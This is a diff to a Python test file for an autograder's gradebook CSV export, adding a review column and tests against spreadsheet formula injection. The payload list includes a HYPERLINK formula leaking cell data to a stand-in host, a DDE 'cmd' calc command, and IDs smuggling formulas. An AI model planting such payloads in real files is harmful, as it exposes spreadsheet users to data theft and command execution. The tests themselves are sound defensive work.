@@ -334,10 +334,10 @@ def test_gradebook(tmp_path: Path) -> None:
         rows = list(csv.reader(fh))
     assert rows[0] == [
         "id", "status", "score", "max_score", "percent", "test_accuracy",
-        *ids, "message",
+        *ids, "needs_review", "message",
     ]  # fmt: skip
     assert [row[0] for row in rows[1:]] == ["'=HYPERLINK(1)", "josé", "student-timeout"]
-    assert rows[2] == ["josé", "graded", "7.5", "10", "75.0", "85.12", "1", "0", "1", "", ""]
+    assert rows[2] == ["josé", "graded", "7.5", "10", "75.0", "85.12", "1", "0", "1", "", "", ""]
     assert rows[3] == [
         "student-timeout",
         "timeout",
@@ -349,9 +349,27 @@ def test_gradebook(tmp_path: Path) -> None:
         "",
         "",
         "",
+        "",
         "superó 240 s",
     ]
     assert _leftovers(tmp_path) == []
+
+
+def test_gradebook_lists_the_checks_that_need_review(tmp_path: Path) -> None:
+    graded = _graded()
+    checks = tuple(
+        dataclasses.replace(c, status=CheckStatus.NEEDS_REVIEW, points=0.0)
+        if c.id == "schedule"
+        else c
+        for c in graded.checks
+    )
+    path = report.write_gradebook(
+        [dataclasses.replace(graded, checks=checks)], tmp_path, ["schedule"]
+    )
+    with path.open(encoding="utf-8", newline="") as fh:
+        header, row = list(csv.reader(fh))
+    assert row[header.index("needs_review")] == "schedule"
+    assert row[header.index("schedule")] == "0"
 
 
 # --- goldens ----------------------------------------------------------------------------
@@ -368,3 +386,51 @@ def test_golden(tmp_path: Path, request: pytest.FixtureRequest, name: str) -> No
         pytest.skip(f"rewrote {golden}")
     assert golden.is_file(), f"{golden} missing: run pytest --update-goldens"
     assert produced == golden.read_bytes(), f"{name} changed: review, then pytest --update-goldens"
+
+
+# --- CSV injection, in every reading of the file ----------------------------------------
+
+_DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
+_PAYLOADS = [
+    'nota;=HYPERLINK("http://evil.example/?"&A1;"aquí")',
+    "ok,=1+1",
+    "a\t@SUM(1)",
+    "línea 1\n+cmd|' /C calc'!A0",
+    '; "-2+3',
+    "=HYPERLINK(1)",
+]
+
+
+@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
+def test_gradebook_has_no_formula_cell_whatever_the_separator(
+    tmp_path: Path, delimiter: str
+) -> None:
+    """A spreadsheet that splits on ";" (Spanish locales) or tabs sees new cells after each
+    separator inside a message or a file name: none may start with a formula character."""
+    results = [_failed(Status.ERROR, message) for message in _PAYLOADS]
+    results = [dataclasses.replace(r, id=f"{i};=HYPERLINK(x)") for i, r in enumerate(results)]
+    path = report.write_gradebook(results, tmp_path, ["structure"])
+    text = path.read_text(encoding="utf-8")
+    # Also as a reader that knows no CSV quoting and splits every line on the separator.
+    naive = [cell for line in text.splitlines() for cell in line.split(delimiter)]
+    with path.open(encoding="utf-8", newline="") as fh:
+        parsed = [cell for row in csv.reader(fh, delimiter=delimiter) for cell in row]
+    for cell in parsed + naive:
+        stripped = cell.lstrip(' "')
+        assert not stripped.startswith(_DANGEROUS), (delimiter, cell)
+
+
+def test_csv_cell_keeps_numbers_numbers_and_text_readable() -> None:
+    assert report.csv_cell("7.5") == "7.5" and report.csv_cell("-3") == "-3"
+    assert report.csv_cell("10") == "10" and report.csv_cell("") == ""
+    assert report.csv_cell("-2+3") == "'-2+3"
+    assert report.csv_cell("a;=B1") == "a;'=B1"
+    assert report.csv_cell("nota: 7, bien") == "nota: 7, bien"  # nothing dangerous: unchanged
+
+
+def test_gradebook_score_columns_stay_numeric(tmp_path: Path) -> None:
+    path = report.write_gradebook([_graded("ana")], tmp_path, ["structure"])
+    with path.open(encoding="utf-8", newline="") as fh:
+        row = next(csv.DictReader(fh))
+    for column in ("score", "max_score", "percent", "test_accuracy"):
+        float(row[column])  # no quote prefix on a number
